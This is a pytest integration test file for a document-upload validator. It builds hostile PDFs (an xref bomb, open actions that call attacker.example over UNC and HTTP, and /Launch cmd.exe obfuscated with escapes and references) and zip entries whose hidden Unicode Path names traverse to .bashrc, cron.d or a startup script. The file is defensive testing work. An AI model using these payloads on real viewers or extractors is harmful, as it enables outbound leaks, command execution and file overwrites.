"""Attack 9 (issue 24, items 3 to 5): documents that take the validator's time, reach out when opened, or
extract somewhere other than their plain name says. Real grants, real PUTs to Azurite, the real validator.

Before the fix: a 2 KB PDF whose xref stream lists 50,000 objects at one array was still parsing after
75 s; ``/OpenAction`` with ``/GoToR`` to a UNC path (and ``/URI``, ``/Thread`` to a remote file, ``/Launch``
spelled as a string or behind a reference) was accepted; a zip entry named ``notes.txt`` whose Unicode
Path extra field (0x7075) says ``../../home/user/.bashrc`` was accepted under ``archives``."""

from __future__ import annotations

import io
import json
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from azure.storage.blob import BlobServiceClient

from tests.integration.test_validation import PROFILES, Upload, assert_quarantined, upload
from tests.support import samples
from valet.runtime import Runtime
from valet.settings import Settings
from valet.validation.reasons import Outcome
from valet.validation.service import Validation

pytestmark = pytest.mark.azurite

PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def test_a_small_pdf_with_unbounded_structure_is_unverifiable_promptly(grant: Callable[..., Upload],
                                                                       blob_service: BlobServiceClient) -> None:
    data = samples.pdf_xref_bomb()
    assert len(data) < 3000
    up = upload(grant, data, filename="a.pdf", contentType="application/pdf", profile="documents")
    started = time.monotonic()
    assert_quarantined(up, blob_service, "pdf_unverifiable")
    assert time.monotonic() - started < 10


OUTBOUND = {
    "gotor_unc": b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
    "uri": b"<< /S /URI /URI (https://attacker.example/ping) >>",
    "thread_remote": b"<< /S /Thread /F (\\\\\\\\attacker.example\\\\x.pdf) /D 0 >>",
    "launch_string": b"<< /S (L\\141unch) /F (cmd.exe) >>",
    "launch_indirect": b"<< /S 4 0 R /F (cmd.exe) >>",
}


@pytest.mark.parametrize("name", sorted(OUTBOUND))
def test_pdf_actions_that_reach_out_are_active_content(name: str, grant: Callable[..., Upload],
                                                       blob_service: BlobServiceClient) -> None:
    named = [b"/L#61unch"] if name == "launch_indirect" else []  # the action type, behind a reference
    data = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, OUTBOUND[name], *named])
    # a profile that allows no outbound action (the built-in documents profile allows links: URI)
    up = upload(grant, data, filename="a.pdf", contentType="application/pdf", profile="strictdocs")
    assert_quarantined(up, blob_service, "active_content")


def test_a_profile_that_allows_links_accepts_a_uri_link_but_nothing_outbound_on_opening(
        grant: Callable[..., Upload], runtime: Runtime, valet_env: dict[str, str]) -> None:
    profiles = json.loads(json.dumps(PROFILES))
    profiles["profiles"]["documents"]["allowPdfActions"] = ["URI"]
    linked = Validation.from_settings(Settings.from_env({**valet_env, "VALET_PROFILES": json.dumps(profiles)}),
                                      runtime.blob_service)
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link "
            b"/Rect [0 0 100 20] /A 4 0 R >>] >>")
    one_page = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    link = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>", one_page, page, OUTBOUND["uri"]])
    on_open = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, OUTBOUND["uri"]])
    chained = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", one_page, page,
                                OUTBOUND["uri"], b"<< /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>"])
    gotor = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>", one_page, page, OUTBOUND["gotor_unc"]])
    for data, outcome in ((link, Outcome.ACCEPTED), (on_open, Outcome.QUARANTINED), (chained, Outcome.QUARANTINED),
                          (gotor, Outcome.QUARANTINED)):
        up = upload(grant, data, filename="a.pdf", contentType="application/pdf", profile="documents")
        decision = linked.validator.process(up.name)
        assert decision is not None and decision.outcome is outcome, (data[:120], decision)
        if outcome is Outcome.QUARANTINED:
            assert decision.reason == "active_content", decision


def unicode_path(plain: str, other: str) -> bytes:
    """An Info-ZIP Unicode Path extra field (0x7075) naming ``other`` for the entry stored as ``plain``."""
    body = b"\x01" + struct.pack("<I", zlib.crc32(plain.encode())) + other.encode()
    return struct.pack("<HH", 0x7075, len(body)) + body


def zip_with(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, extra in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.extra = extra
            archive.writestr(info, b"echo hi\n")
    return out.getvalue()


@pytest.mark.parametrize(("plain", "extra"), [
    ("notes.txt", unicode_path("notes.txt", "../../home/user/.bashrc")),
    ("notes.txt", unicode_path("notes.txt", "/etc/cron.d/x")),
    ("notes.txt", unicode_path("notes.txt", "C:\\Users\\x\\start.bat")),
    ("\uff0e\uff0e/\uff0e\uff0e/x.sh", b""),  # fullwidth dots: ".." once normalised (NFKC)
], ids=["unicode_path_dotdot", "unicode_path_absolute", "unicode_path_drive", "nfkc_dotdot"])
def test_every_name_an_extractor_may_use_is_checked(plain: str, extra: bytes, grant: Callable[..., Upload],
                                                    blob_service: BlobServiceClient) -> None:
    data = zip_with([("readme.txt", b""), (plain, extra)])
    up = upload(grant, data, filename="a.zip", contentType="application/zip", profile="archives")
    assert_quarantined(up, blob_service, "archive_unsafe_name")


def test_a_harmless_unicode_path_is_accepted(grant: Callable[..., Upload]) -> None:
    data = zip_with([("caf\xe9.txt", unicode_path("caf\xe9.txt", "caf\xe9.txt"))])
    up = upload(grant, data, filename="a.zip", contentType="application/zip", profile="archives")
    assert up.decide().outcome is Outcome.ACCEPTED
